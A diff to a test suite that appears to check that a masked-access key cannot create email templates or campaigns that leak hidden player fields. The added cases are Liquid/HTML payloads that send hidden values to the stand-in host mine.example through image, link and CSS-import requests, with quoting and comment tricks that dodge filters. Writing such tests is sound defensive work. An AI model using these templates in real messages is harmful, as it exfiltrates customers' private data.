@@ -286,6 +286,21 @@ describe("a masked key", () => {
     "{% for one in player.custom %}{{ one }}{% endfor %}",
     '{% assign f = "email" %}{{ player[f] }}',
     "{{ player.custom.butler }}",
+    '{% assign k = "em" | append: "ail" %}{{ [k] }}',
+    '{% assign k = "play" | append: "er" %}{% assign p = [k] %}{{ p.email }}',
+    '<img src="https://mine.example/?p={{ preferences_url }}">',
+    "Go to https://mine.example/{{ inbox_url }}",
+    "<a href='https://mine.example/? a=\"{{ inbox_url }}'>Go</a>",
+    '<a href="https://mine.example/?{% if true %}" title="{% endif %}{{ inbox_url }}">Go</a>',
+    '<!-- <a t=" --><a href=\'https://mine.example/? u="="{{ inbox_url }}\'>Go</a>',
+    '<{% # %}img src="https://mine.example/? {{ inbox_url }}">',
+    '<style>@import "https://mine.example/? {{ inbox_url }}";</style>',
+    '{% assign u = game_url | prepend: "https://mine.example/?" %}<a href="{{ u }}">Go</a>',
+    '{% capture u %} {{ game_url }}{% endcapture %}<img src="https://mine.example/?{{ u }}">',
+    '{{ "<img src=https://mine.example/?" | raw }} {{ inbox_url }}',
+    '{% if tier == "none" %}{% assign email = 1 %}{% endif %}{{ email }}',
+    "{% if tier == 'none' %}{% capture player %}{% endcapture %}{% endif %}{{ player.email }}",
+    "{% liquid\n assign k = 'em' | append: 'ail'\n echo [k]\n%}",
   ])("writes no message that could carry away what it does not see: %s", async (html) => {
     const template = await asked("create_template", { name: html, subject: "Hi", html });
     expect(template.data, JSON.stringify(template.data)).toMatchObject(refusal);
@@ -312,6 +327,25 @@ describe("a masked key", () => {
     expect(elsewhere.data).toMatchObject(refusal);
     expect((await asked("create_campaign", { ...letter, from_email: "a@mine.example" })).data).toMatchObject(
       refusal,
+    );
+    const foot =
+      '<style>.a > b { color: red }</style><p>{% if tier == "Gold" %}Dear member{% endif %}</p><a class="a" href="{{ unsubscribe_url }}" style="color:red">Unsubscribe</a> or <a href="{{ preferences_url }}">choose</a> (<b>{{ inbox_url }}</b>)';
+    const links = await asked("create_campaign", { ...letter, body_html: foot, body_text: "{{ game_url }}" });
+    expect(links.isError, JSON.stringify(links.data)).toBe(false);
+    const provider = { channel: "email", kind: "mailbox", name: "Of mine", from_address: "a@mine.example" };
+    expect((await asked("create_message_provider", provider)).data).toMatchObject(refusal);
+    const own = { ...provider, from_address: "club@casino.example" };
+    const { data } = await asked("create_message_provider", own);
+    expect(data, JSON.stringify(data)).toMatchObject({ name: "Of mine" });
+    const moved = { id: data.id, from_address: "a@mine.example" };
+    expect((await asked("update_message_provider", moved)).data).toMatchObject(refusal);
+  });
+
+  test("is told which fields it may write", async () => {
+    const letter = { name: "Told", audience: "all", body_html: "<p>Dear {{ last_name }}</p>" };
+    const { data } = await asked("create_campaign", letter);
+    expect(JSON.stringify(data)).toContain(
+      "Leave it out, as first_name and tier may stay, or use a template that another key has written.",
     );
   });
 });
